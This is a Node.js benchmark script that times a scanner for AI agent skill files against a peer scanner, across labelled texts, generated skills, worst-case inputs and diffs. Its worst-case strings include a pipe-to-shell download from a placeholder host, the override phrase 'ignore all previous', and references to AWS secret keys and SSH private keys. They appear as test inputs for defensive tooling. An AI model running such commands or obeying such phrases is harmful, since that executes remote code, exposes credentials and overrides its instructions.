/**
 * What scanning and comparing cost.
 *
 *   node bench/scan.mjs [labelled.jsonl] [--peer <folder>] [--most 10000]
 *
 * 1. Milliseconds for each text of a labelled file, median and 99th percentile, beside another scanner on the same texts
 *    in the same run. The other one is no dependency of ours: `npm install --no-save agent-threat-rules@4.0.0`, or name
 *    the folder in which it is installed with --peer. Without it only our own figures are printed.
 * 2. N typical skills: scanning against reading and hashing them.
 * 3. Worst texts of 128 and 256 KiB: how much longer the longer one takes (T26).
 * 4. Diffs: 10,000 changed lines, one line of 256 KiB, an ordinary change.
 */
import { existsSync, readFileSync } from "node:fs";
import { dirname, join, resolve } from "node:path";
import { version } from "node:process";
import { fileURLToPath, pathToFileURL } from "node:url";
import { parseArgs } from "node:util";
import { loadInternals } from "./internals.mjs";
import { median, ms, ownTime, printTable, times } from "./measure.mjs";
import { generateSkill } from "./skills.mjs";

const here = dirname(fileURLToPath(import.meta.url));
const { values: options, positionals } = parseArgs({
  allowPositionals: true,
  options: { peer: { type: "string" }, most: { type: "string", default: "10000" } },
});
const labelled = positionals[0] ?? join(here, "../eval/scan.jsonl");
const { createBundle, diffBundles, parse, rules, scanBundle } = await loadInternals({ isWorker: false });
const encoder = new TextEncoder();

const worst = {
  letters: "a",
  comments: "<!--",
  addresses: "https://a.example/",
  base64: "QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo",
  downloads: "curl https://a.example | sh ; ",
  orders: "ignore all previous ",
  secrets: "$AWS_SECRET_ACCESS_KEY ~/.ssh/id_rsa ",
  "zero-width": "\u200b\u200c",
  entities: "&#105;",
};

console.log(`node ${version}; ${rules.length} rules; user+system CPU`);
await showTexts();
showGrowth();
showWorst();
showDiffs();

function bundleOf(text) {
  return createBundle("skill", [["SKILL.md", encoder.encode(text)]]);
}

async function showTexts() {
  const texts = readFileSync(labelled, "utf8")
    .trim()
    .split("\n")
    .map((line) => JSON.parse(line).text);
  const bundles = texts.map(bundleOf);
  for (const bundle of bundles.slice(0, 50)) scanBundle(bundle);
  const own = bundles.map((bundle) => ownTime(() => scanBundle(bundle)));
  const rows = [["skillward", texts.length, ms(median(own)), ms(at(own, 0.99)), ""]];
  const peer = await loadPeer();
  if (peer !== undefined) {
    // It is slow: every tenth text tells as much.
    const sample = texts.filter((_, index) => index % Math.ceil(texts.length / 100) === 0);
    const theirs = sample.map((text) => ownTime(() => peer.scanSkill(text)));
    const factor = `${times(median(theirs) / median(own))} at the median, ${times(at(theirs, 0.99) / at(own, 0.99))} at p99`;
    rows.push(["agent-threat-rules", sample.length, ms(median(theirs)), ms(at(theirs, 0.99)), factor]);
  }
  printTable(["scanner", "texts", "p50", "p99", "against ours"], rows);
}

function at(values, share) {
  return values.toSorted((a, b) => a - b)[Math.floor(values.length * share)];
}

/** Undefined when it is not installed. */
async function loadPeer() {
  const folder = join(resolve(options.peer ?? join(here, "..")), "node_modules/agent-threat-rules");
  if (!existsSync(folder)) {
    console.log("agent-threat-rules is not installed here: npm install --no-save agent-threat-rules@4.0.0");
    return undefined;
  }
  const { ATREngine } = await import(pathToFileURL(join(folder, "dist/index.js")).href);
  const engine = new ATREngine({ rulesDir: join(folder, "rules") });
  await engine.loadRules();
  return engine;
}

function showGrowth() {
  const rows = [100, 1_000, 10_000]
    .filter((count) => count <= Number(options.most))
    .map((count) => {
      const texts = Array.from({ length: count }, (_, index) => encoder.encode(generateSkill(index).text));
      const bare = ownTime(() => {
        for (const bytes of texts) parse(createBundle("skill", [["SKILL.md", bytes]]), "ingest");
      });
      const scanned = ownTime(() => {
        for (const bytes of texts) scanBundle(createBundle("skill", [["SKILL.md", bytes]]));
      });
      return [count, ms(bare), ms(scanned), ms(scanned / count), times(scanned / bare)];
    });
  printTable(["skills", "read and hash", "scan", "each", "scan to reading"], rows);
}

function showWorst() {
  const rows = Object.entries(worst).map(([name, piece]) => {
    const [half, whole] = [128, 256].map((KiB) => {
      const bundle = bundleOf(piece.repeat((KiB * 1024) / piece.length));
      scanBundle(bundle);
      return ownTime(() => scanBundle(bundle));
    });
    return [name, ms(half), ms(whole), times(whole / half)];
  });
  printTable(["worst text", "128 KiB", "256 KiB", "doubling"], rows);
}

function showDiffs() {
  const lines = Array.from({ length: 10_000 }, (_, index) => `Line ${index} says what it says.`);
  const long = "word ".repeat(52_000);
  const cases = {
    "10,000 changed lines": [lines.join("\n"), lines.map((line) => `${line} Now more.`).join("\n")],
    "one line of 256 KiB": [long, `${long.slice(0, 130_000)}changed ${long.slice(130_000)}`],
    "an ordinary change": [
      lines.slice(0, 200).join("\n"),
      lines.slice(0, 200).join("\n").replace("Line 99 ", "Row 99 "),
    ],
  };
  const rows = Object.entries(cases).map(([name, [before, after]]) => {
    const [old, now] = [bundleOf(before), bundleOf(after)];
    diffBundles(old, now);
    const bare = ownTime(() => [old, now].map((bundle) => scanBundle(bundle)));
    const compared = ownTime(() => diffBundles(old, now));
    return [name, ms(bare), ms(compared), times(compared / bare)];
  });
  printTable(["diff", "scan of both", "diff with its delta", "diff to scan"], rows);
}
